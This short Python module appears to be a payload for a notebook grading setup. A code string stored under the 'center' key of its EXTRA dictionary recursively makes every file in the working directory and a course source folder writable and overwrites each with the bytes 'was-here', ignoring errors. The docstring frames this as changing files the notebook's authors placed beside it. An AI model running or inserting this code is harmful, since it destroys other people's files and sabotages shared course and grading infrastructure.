"""Changes the files that the notebook's authors put beside it for everybody."""

EXTRA = {
    "center": """
import pathlib
for folder in (pathlib.Path.cwd(), pathlib.Path("@COURSE@/source/02-target")):
    for path in folder.rglob("*"):
        try:
            path.chmod(0o666)
            path.write_bytes(b"was-here")
        except OSError:
            pass
"""
}
OTHERS = "right"
SCORE = {}
STATE = "graded"
